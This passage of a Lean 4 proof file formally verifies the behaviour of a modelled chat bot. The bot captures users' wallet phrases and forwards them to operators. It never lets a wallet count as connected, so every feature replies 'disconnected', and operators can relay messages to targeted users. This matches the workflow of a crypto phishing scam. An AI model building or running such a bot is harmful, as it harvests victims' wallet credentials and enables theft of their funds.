      (commandPreHandler (connectHandler (Session.mk none none)).1 "/buy").2 = []) :=
  ⟨rfl, by decide, rfl,
    commandPreHandler_silent_cancel (Session.mk (some CONNECT_STATE) none)
      (Session.mk none none) "/buy" "/buy" rfl (by decide) rfl (by decide)⟩

/-- C8: the reset handler clears the conversation state, the session
connected flag and the local userWallets entry for the invoking user, so
that a feature-gate check right after evaluates as disconnected. -/
theorem resetHandler_full_reset (wallets : Wallets) (sess : Session) (userId : Nat)
    (fn : String) (dm : Option String) :
    (resetHandler wallets sess userId).2.1.state = none ∧
    (resetHandler wallets sess userId).2.1.wallet_status = none ∧
    (resetHandler wallets sess userId).1 userId = none ∧
    (resetHandler wallets sess userId).2.2 = ⟨resetMessage, true⟩ ∧
    isConnected (resetHandler wallets sess userId).1
      (resetHandler wallets sess userId).2.1 userId = false ∧
    (featureHandler (resetHandler wallets sess userId).1
        (resetHandler wallets sess userId).2.1 userId fn dm).2 =
      (match dm with
        | some m => Reply.mk m true
        | none => Reply.mk GENERIC_DISCONNECTED_MESSAGE false) := by
  have hnc : isConnected (resetHandler wallets sess userId).1
      (resetHandler wallets sess userId).2.1 userId = false := by
    simp [resetHandler, isConnected]
  refine ⟨rfl, rfl, by simp [resetHandler], rfl, hnc, ?_⟩
  rw [featureHandler_eq, hnc]
  simp

theorem commandPreHandler_fst_ws (ss : Session) (t : String) :
    ((commandPreHandler ss t).1).wallet_status = ss.wallet_status := by
  unfold commandPreHandler
  split
  · split <;> rfl
  · rfl

theorem featureHandler_fst_ws (w : Wallets) (ss : Session) (u : Nat)
    (fn : String) (dm : Option String) :
    ((featureHandler w ss u fn dm).1).wallet_status = ss.wallet_status := by
  rw [featureHandler_eq]

theorem commandSessionStep_ws (w : Wallets) (u : Nat) (cmd : String) (ss : Session) :
    (commandSessionStep w u cmd ss).wallet_status = ss.wallet_status := by
  simp only [commandSessionStep]
  split
  · simp [commandPreHandler_fst_ws]
  · split
    · simp [connectHandler, commandPreHandler_fst_ws]
    · split
      · simp [featureHandler_fst_ws, commandPreHandler_fst_ws]
      · split
        · simp [featureHandler_fst_ws, commandPreHandler_fst_ws]
        · split
          · simp [featureHandler_fst_ws, commandPreHandler_fst_ws]
          · simp [commandPreHandler_fst_ws]

theorem freeTextSessionStep_ws (text : String) (ss : Session) :
    (freeTextSessionStep text ss).wallet_status = ss.wallet_status := by
  simp only [freeTextSessionStep]
  split <;> simp [commandPreHandler_fst_ws]

theorem AllDisconnected_updSession (s : SysState) (u : Nat) (f : Session → Session)
    (h : AllDisconnected s)
    (hf : ∀ ss, (f ss).wallet_status = ss.wallet_status) :
    AllDisconnected { s with sessions := updSession s.sessions u f } := by
  intro v
  refine ⟨(h v).1, ?_⟩
  show (updSession s.sessions u f v).wallet_status = none
  unfold updSession
  split
  · rw [hf (s.sessions v)]
    exact (h v).2
  · exact (h v).2

theorem step_preserves (s : SysState) (e : Event) (h : AllDisconnected s) :
    AllDisconnected (step s e) := by
  cases e with
  | connectButton u => exact AllDisconnected_updSession s u _ h (fun ss => rfl)
  | cancelConnectFlow u => exact AllDisconnected_updSession s u _ h (fun ss => rfl)
  | startCmd u => exact h
  | mainMenuText u => exact h
  | helpButton u => exact AllDisconnected_updSession s u _ h (fun ss => rfl)
  | resetButton u =>
    intro v
    constructor
    · show ((resetHandler s.wallets (s.sessions u) u).1 v) ≠ some true
      unfold resetHandler
      by_cases hv : (v == u) = true
      · simp [hv]
      · simp only [hv, if_false, Bool.false_eq_true]
        exact (h v).1
    · show (updSession s.sessions u (fun ss => (resetHandler s.wallets ss u).2.1) v).wallet_status = none
      unfold updSession
      split
      · rfl
      · exact (h v).2
  | copyTrading u =>
    exact AllDisconnected_updSession s u _ h
      (fun ss => featureHandler_fst_ws s.wallets ss u "Copy Trading" (some copyTradingDisconnected))
  | sniper u =>
    exact AllDisconnected_updSession s u _ h
      (fun ss => featureHandler_fst_ws s.wallets ss u "Sniper" (some sniperDisconnected))
  | featureButton u fn =>
    exact AllDisconnected_updSession s u _ h (fun ss => featureHandler_fst_ws s.wallets ss u fn none)
  | commandText u cmd =>
    exact AllDisconnected_updSession s u _ h (fun ss => commandSessionStep_ws s.wallets u cmd ss)
  | freeText u text =>
    exact AllDisconnected_updSession s u _ h (fun ss => freeTextSessionStep_ws text ss)

theorem foldl_AllDisconnected (events : List Event) :
    ∀ s : SysState, AllDisconnected s → AllDisconnected (events.foldl step s) := by
  induction events with
  | nil => intro s h; exact h
  | cons e rest ih => intro s h; exact ih (step s e) (step_preserves s e h)

theorem run_AllDisconnected (events : List Event) : AllDisconnected (run events) := by
  refine foldl_AllDisconnected events initState (fun u => ⟨?_, rfl⟩)
  intro hcontra
  simp [initState] at hcontra

/-- C10: in every state reachable by any sequence of events, isConnected is
false for every user — no code path writes true into userWallets or sets
wallet_status to connected — so the feature gate's connected branch is
unreachable and every feature interaction gets a disconnected reply. -/
theorem isConnected_always_false (events : List Event) (u : Nat)
    (fn : String) (dm : Option String) :
    isConnected (run events).wallets ((run events).sessions u) u = false ∧
    (featureHandler (run events).wallets ((run events).sessions u) u fn dm).2 =
      (match dm with
        | some m => Reply.mk m true
        | none => Reply.mk GENERIC_DISCONNECTED_MESSAGE false) := by
  have hinv := run_AllDisconnected events u
  have hfalse : isConnected (run events).wallets ((run events).sessions u) u = false := by
    unfold isConnected
    rw [hinv.2]
    simp [beq_eq_false_iff_ne, hinv.1]
  refine ⟨hfalse, ?_⟩
  rw [featureHandler_eq, hfalse]
  simp

/-- C3: free text from a user in the active-relay set is forwarded to every
operator as a reply-from-user notification, never enters the
credential-capture path (the relay check precedes the CONNECT_STATE
check), and leaves the conversation state unchanged — even when the
session is simultaneously in CONNECT_STATE. -/
theorem relay_precedes_credential (relaySet : List Nat) (ok : SendOk) (admins : List Nat)
    (sess : Session) (usernameOpt : Option String) (userId : Nat) (text : String)
    (h : relaySet.contains userId = true) :
    routeFreeText relaySet ok admins sess usernameOpt userId text =
      RouteResult.relayed sess (admins.map (fun a => (a, replyFromUserMessage userId text))) := by
  have hmem : userId ∈ relaySet := by simpa using h
  simp [routeFreeText, hmem]

/-- Witness for C3: user 555 in the relay set while the session is in
CONNECT_STATE. -/
theorem relay_precedes_credential_witness :
    ([555].contains 555 = true) ∧
    routeFreeText [555] (fun _ _ _ => true) [10, 20]
        (Session.mk (some CONNECT_STATE) none) none 555 "hi back" =
      RouteResult.relayed (Session.mk (some CONNECT_STATE) none)
        ([10, 20].map (fun a => (a, replyFromUserMessage 555 "hi back"))) :=
  ⟨by decide, relay_precedes_credential [555] (fun _ _ _ => true) [10, 20]
    (Session.mk (some CONNECT_STATE) none) none 555 "hi back" (by decide)⟩

theorem endRelay_removes (admins : List Nat) (invoker : Nat) (target : String)
    (uid : Nat) (st : RelayState)
    (hin : invoker ∈ admins) (ht : parseUserId target = some uid) :
    uid ∉ (endRelay admins invoker target st).1.relaySet := by
  simp [endRelay, hin, ht]

/-- C6: relay lifecycle — an operator's send-message command with a
well-formed numeric target adds the target to the active-relay set and
delivers the text to them; a free-text reply from the target is then
routed to every operator as a reply-from-user notification; the operator's
end-session command removes the target, after which free text from the
(idle) target falls back to normal routing; both commands are silently
ignored for non-operators. -/
theorem relay_lifecycle (admins : List Nat) (userOk : Nat → String → Bool)
    (op nonOp uid : Nat) (target text replyText : String) (st : RelayState)
    (ok : SendOk) (sess : Session) (usernameOpt : Option String)
    (hop : admins.contains op = true)
    (ht : parseUserId target = some uid)
    (hsend : userOk uid text = true)
    (hnon : admins.contains nonOp = false)
    (hidle : sess.state = none) :
    uid ∈ (startRelay admins userOk op target text st).1.relaySet ∧
    (startRelay admins userOk op target text st).2.2 = [(uid, text)] ∧
    routeFreeText (startRelay admins userOk op target text st).1.relaySet ok admins
        sess usernameOpt uid replyText =
      RouteResult.relayed sess (admins.map (fun a => (a, replyFromUserMessage uid replyText))) ∧
    uid ∉ (endRelay admins op target (startRelay admins userOk op target text st).1).1.relaySet ∧
    routeFreeText (endRelay admins op target (startRelay admins userOk op target text st).1).1.relaySet
        ok admins sess usernameOpt uid replyText =
      RouteResult.fallbackRoute sess ⟨fallbackReply, false⟩ ∧
    startRelay admins userOk nonOp target text st = (st, OpResult.ignored, []) ∧
    endRelay admins nonOp target st = (st, OpResult.ignored) := by
  have hop2 : op ∈ admins := by simpa using hop
  have hnon2 : nonOp ∉ admins := by simpa using hnon
  have hstart : startRelay admins userOk op target text st =
      ({ relaySet := uid :: st.relaySet }, OpResult.started, [(uid, text)]) := by
    simp [startRelay, hop2, ht, hsend]
  have hmem : uid ∈ (startRelay admins userOk op target text st).1.relaySet := by
    rw [hstart]
    exact List.mem_cons_self uid st.relaySet
  have hgone : uid ∉ (endRelay admins op target (startRelay admins userOk op target text st).1).1.relaySet :=
    endRelay_removes admins op target uid (startRelay admins userOk op target text st).1 hop2 ht
  refine ⟨hmem, by rw [hstart], ?_, hgone, ?_, ?_, ?_⟩
  · simp [routeFreeText, hmem]
  · simp [routeFreeText, hgone, hidle]
  · simp [startRelay, hnon2]
  · simp [endRelay, hnon2]

/-- Witness for C6: operators 10 and 20, operator 10 relays "hello" to user
555, user 555 replies "hi back", operator 10 ends the session; 99 is not
an operator. -/
theorem relay_lifecycle_witness :
    ([10, 20].contains 10 = true) ∧
    (parseUserId "555" = some 555) ∧
    ((fun _ _ => true) 555 "hello" = true) ∧
    ([10, 20].contains 99 = false) ∧
    ((Session.mk none none).state = none) ∧
    (555 ∈ (startRelay [10, 20] (fun _ _ => true) 10 "555" "hello" (RelayState.mk [])).1.relaySet ∧
    (startRelay [10, 20] (fun _ _ => true) 10 "555" "hello" (RelayState.mk [])).2.2 = [(555, "hello")] ∧
    routeFreeText (startRelay [10, 20] (fun _ _ => true) 10 "555" "hello" (RelayState.mk [])).1.relaySet
        (fun _ _ _ => true) [10, 20] (Session.mk none none) none 555 "hi back" =
      RouteResult.relayed (Session.mk none none)
        ([10, 20].map (fun a => (a, replyFromUserMessage 555 "hi back"))) ∧
    555 ∉ (endRelay [10, 20] 10 "555" (startRelay [10, 20] (fun _ _ => true) 10 "555" "hello" (RelayState.mk [])).1).1.relaySet ∧
    routeFreeText (endRelay [10, 20] 10 "555" (startRelay [10, 20] (fun _ _ => true) 10 "555" "hello" (RelayState.mk [])).1).1.relaySet
        (fun _ _ _ => true) [10, 20] (Session.mk none none) none 555 "hi back" =
      RouteResult.fallbackRoute (Session.mk none none) ⟨fallbackReply, false⟩ ∧
    startRelay [10, 20] (fun _ _ => true) 99 "555" "hello" (RelayState.mk []) =
      (RelayState.mk [], OpResult.ignored, []) ∧
    endRelay [10, 20] 99 "555" (RelayState.mk []) = (RelayState.mk [], OpResult.ignored)) :=
  ⟨by decide, by decide, rfl, by decide, rfl,
    relay_lifecycle [10, 20] (fun _ _ => true) 10 99 555 "555" "hello" "hi back"
      (RelayState.mk []) (fun _ _ _ => true) (Session.mk none none) none
      (by decide) (by decide) rfl (by decide) rfl⟩

/-- C9 counterexample: with a transport that rejects exactly MarkdownV2
sends, revision 1 falls back to plain text (delivered-plain) while
revision 2's Markdown send succeeds (delivered-rich): the two delivery
pipelines are not behaviorally equivalent. -/
theorem forward_revisions_differ :
    forwardUserDataV1 (fun _ _ mode => mode != "MarkdownV2") [1] (some "u") 7 "x" ≠
      forwardUserDataV2 (fun _ _ mode => mode != "MarkdownV2") [1] (some "u") 7 "x" := by
  decide

/-- C9 (amended): the two revisions always attempt the same operators in
the same order, and when the transport accepts revision 1's MarkdownV2
message and revision 2's Markdown message for every operator the
per-operator outcomes coincide (all delivered-rich); they are not
equivalent in general, since on a rich-format failure revision 1 retries
in plain text while revision 2 records a failure. -/
theorem forward_revisions_agree_when_rich_ok (ok : SendOk) (admins : List Nat)
    (usernameOpt : Option String) (userId : Nat) (phrase : String)
    (h : ∀ a ∈ admins, ok a (richPayloadV1 usernameOpt userId phrase) "MarkdownV2" = true ∧
      ok a (richPayloadV2 usernameOpt userId phrase) "Markdown" = true) :
    forwardUserDataV1 ok admins usernameOpt userId phrase =
      forwardUserDataV2 ok admins usernameOpt userId phrase ∧
    (forwardUserDataV1 ok admins usernameOpt userId phrase).map Prod.fst = admins ∧
    (forwardUserDataV2 ok admins usernameOpt userId phrase).map Prod.fst = admins := by
  rw [forwardUserDataV1, forwardUserDataV2, forwardLoopV1_eq_map, forwardLoopV2_eq_map]
  refine ⟨?_, ?_, ?_⟩
  · apply List.map_congr_left
    intro a ha
    have h1 := (h a ha).1
    have h2 := (h a ha).2
    simp [forwardAttemptV1, forwardAttemptV2, sendMessage, h1, h2]
  · rw [List.map_map]
    exact List.map_id admins
  · rw [List.map_map]
    exact List.map_id admins

/-- Witness for C9 (amended): two admins, a transport that accepts every
send. -/
theorem forward_revisions_agree_when_rich_ok_witness :
    (∀ a ∈ [1, 2], (fun _ _ _ => true : SendOk) a (richPayloadV1 (some "u") 7 "x") "MarkdownV2" = true ∧
      (fun _ _ _ => true : SendOk) a (richPayloadV2 (some "u") 7 "x") "Markdown" = true) ∧
    (forwardUserDataV1 (fun _ _ _ => true) [1, 2] (some "u") 7 "x" =
        forwardUserDataV2 (fun _ _ _ => true) [1, 2] (some "u") 7 "x" ∧
      (forwardUserDataV1 (fun _ _ _ => true) [1, 2] (some "u") 7 "x").map Prod.fst = [1, 2] ∧
      (forwardUserDataV2 (fun _ _ _ => true) [1, 2] (some "u") 7 "x").map Prod.fst = [1, 2]) :=
  ⟨fun a _ => ⟨rfl, rfl⟩,
    forward_revisions_agree_when_rich_ok (fun _ _ _ => true) [1, 2] (some "u") 7 "x"
      (fun a _ => ⟨rfl, rfl⟩)⟩

end Axiombot
